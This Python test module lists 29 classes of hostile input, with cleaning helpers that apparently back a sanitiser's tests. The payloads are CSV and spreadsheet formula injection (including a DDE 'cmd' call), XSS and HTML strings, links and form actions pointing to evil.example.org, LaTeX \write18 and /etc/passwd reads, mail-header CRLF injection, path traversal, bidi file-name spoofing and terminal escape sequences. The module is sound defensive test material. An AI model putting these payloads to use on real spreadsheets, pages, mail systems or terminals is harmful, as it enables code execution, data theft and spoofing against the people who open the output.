"""The 29 classes of hostile input, each with texts that mean harm somewhere, and what a reader may still see of them.

Those classes that are not about a text in an output but about a file that is read (bombs, encodings, patterns) are here
with the text that somebody would take for one.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from unicodedata import category

CLASSES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "01-csv-formula": (
            '=HYPERLINK("http://evil.example.org";"x")',
            "+1",
            "-1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "|x",
            "%x",
            " =1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "=cmd|' /C calc'!A0",
            'a";=1+1;"',
            "a\n=1+1",
            "'=1+1",
            "''",
        ),
        "02-xlsx-formula": ("{=SUM(1)}", "=WEBSERVICE(1)", "_x003D_1+1", "_x000D_=1", "=1+cmd|'x'!A1"),
        "03-xlsx-crash": (
            "file://x",
            "external:x",
            "internal:Sheet1!A1",
            "https://evil.example.org/" + "a" * 3000,
            "mailto:evil@example.org",
            "#Sheet1!A1",
        ),
        "04-loss-by-spreadsheets": (
            "0612345678",
            "1e5",
            "1/2",
            "TRUE",
            "#N/A",
            "00",
            "1,5",
            "2020-10-26",
            "1234567890123456789",
        ),
        "05-html": (
            '"><img src=x onerror=alert(1)>',
            "<script>alert(1)</script>",
            "</title></style><svg onload=alert(1)>",
            "<!--",
            "--><iframe srcdoc='<script>alert(1)</script>'>",
            "<![CDATA[x]]>",
            "&lt;b&gt; &#60;script&#62; &amp",
            "{{ 7 * 7 }}{% raw %}",
            "<base href=//evil.example.org>",
        ),
        "06-attributes-addresses-styles": (
            "x onmouseover=alert(1)",
            "' onmouseover='alert(1)",
            "javascript:alert(1)",
            "JaVaScRiPt&#58;alert(1)",
            "1px;background:url(//evil.example.org)",
            "data:text/html,<script>alert(1)</script>",
            "}</style><style>*{background:url(//evil.example.org)}",
        ),
        "07-markdown": (
            "[x](javascript:alert(1))",
            "![](http://evil.example.org/track.png)",
            "[x]: http://evil.example.org",
            "<http://evil.example.org>",
            "# x",
            "- x",
            "1. x",
            "> x",
            "```",
            "~~~ x",
            "| a | b |",
            "***",
            "x\n===",
            "\\*x\\*",
            "`x`",
            "www.evil.example.org",
        ),
        "08-site-wide": (
            "<meta http-equiv=refresh content=0;url=//evil.example.org>",
            "<form action=//evil.example.org>",
        ),
        "09-svg": (
            "<svg onload=alert(1)>",
            "</text><script>alert(1)</script><text>",
            "${alert(1)}",
            "<a xlink:href=x>",
            "&#x3c;image&#x3e;",
        ),
        "10-typst": (
            '#panic("x")',
            '#read("/etc/hostname")',
            '") #panic("x',
            "$x$",
            "@ref",
            "<label>",
            '#import "@preview/a:0.1.0"',
            "// x",
            "/* x",
            "\\u{41}",
        ),
        "11-latex": ("\\input{/etc/passwd}", "$$x$$", "%x", "\\write18{id}", "~^_&"),
        "12-calendar": (
            "T\r\nATTENDEE:mailto:evil@example.org",
            "T\rATTENDEE:mailto:evil@example.org",
            "T\\nATTENDEE:x",
            'CN";X-EVIL=1:mailto:evil@example.org',
            "a;b,c:d",
            "^n^'^^",
            "x\nEND:VEVENT\nBEGIN:VEVENT",
            "nul\x00 escape\x1b tab\x0b",
            "a" * 200,
        ),
        "13-mail-header": (
            "Hi\r\nBcc: evil@example.org",
            "Hi\nBcc: evil@example.org",
            "Hi\u2028Bcc: evil@example.org",
            "Hi\x0bBcc: evil@example.org",
            "Hi\x85Bcc: evil@example.org",
            "Ada, evil@example.org <ada@example.org>",
            "=?utf-8?q?=0ABcc:_evil=40example.org?=",
        ),
        "14-mail-address": (
            "ada@example.org\n",
            "ada@example.org, evil@example.org",
            "ada@example.org\u202e",
            "ADA@EXAMPLE.ORG",
            "a@xn--nxasmq6b.example.org",
        ),
        "15-smtp": ("ok@example.org\r\nDATA", "<a@example.org>,<c@example.org>", "."),
        "16-file-names": (
            "../../etc/passwd",
            "..",
            "CON",
            "-rf",
            ".ssh",
            "a" * 400,
            "x\u202egnp.exe",
            "a/b\\c",
            "C:\\x",
            "nul.txt",
            "~",
        ),
        "17-zip-bomb": ("x" * 3_000,),
        "18-far-cell": ("XFD1048576", "A1", "R1C1"),
        "19-xml-bomb": ('<!DOCTYPE x [<!ENTITY a "b">]>', "&a;", '<?xml version="1.0"?>', "]]>"),
        "20-rows": ("1048577", "a\nb\nc"),
        "21-long-field": ("é" * 500, "x " * 500),
        "22-quotes": ('"', 'a"b', '""', '"a', "a;b", "a,b", 'a"\n"b'),
        "23-encodings": (
            "a\x00b",
            "ZoÃ©",
            "\ufeffAda",
            "\ufffe\uffff",
            "\ufdd0\U0001fffe",
            "\ud800",
            "Łódź 日本 🎥 العربية",
        ),
        "24-terminal": (
            "\x1b]52;c;ZXZpbA==\x07",
            "\x1b[2J",
            "\x9b2J",
            "\x1b]8;;http://evil.example.org\x1b\\x\x1b]8;;\x1b\\",
            "\x9d0;evil\x9c",
            "\x08\x08\x08",
            "\x7f",
            "\x90x\x9c",
            "a\rb",
            "\x0e\x0f",
        ),
        "25-rich-markup": (
            "[bold]x",
            "[/]",
            "[link=http://evil.example.org]x[/]",
            ":smile:",
            "[red]x[/red]",
            "\\[bold]",
        ),
        "26-bidi": ("Ada\u202egnp.exe", "\u2067x\u2069", "\u200fx", "\u061cx", "x\U000e0041"),
        "27-patterns": ("1h" * 12 + "!", "a" * 40 + "!", "(((((((((("),
        "28-toml": ('"""', "a = [[[[[[", "'''", "\\u0000", '"\n[cycle]\nid = "evil'),
        "29-look-alikes": ("Zoé", "Zoe\u0301", "Аda", "A@B.COM", "ﬁn", "İ", "ß"),
    }
)
TEXTS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in CLASSES.values() for text in texts))


def cleaned(text: str) -> str:
    """What the documentation of `plain.clean` promises, written another way."""
    text = text.replace("\r\n", " ").translate(dict.fromkeys(map(ord, "\r\n\t"), " "))
    shown = (
        "\ufffd"
        if category(one) in {"Cc", "Cs", "Zl", "Zp"} or _is_no_character(one)
        else ""
        if category(one) == "Cf" and one not in "\u200c\u200d\u00ad"
        else one
        for one in text
    )
    return "".join(shown)


def _is_no_character(one: str) -> bool:
    """The 66 code points that Unicode keeps for internal use; XML 1.0 takes two of them in no way."""
    return 0xFDD0 <= ord(one) <= 0xFDEF or ord(one) & 0xFFFE == 0xFFFE


def squeezed(text: str) -> str:
    """Without white space: where an output breaks lines is not the point."""
    return "".join(text.split())
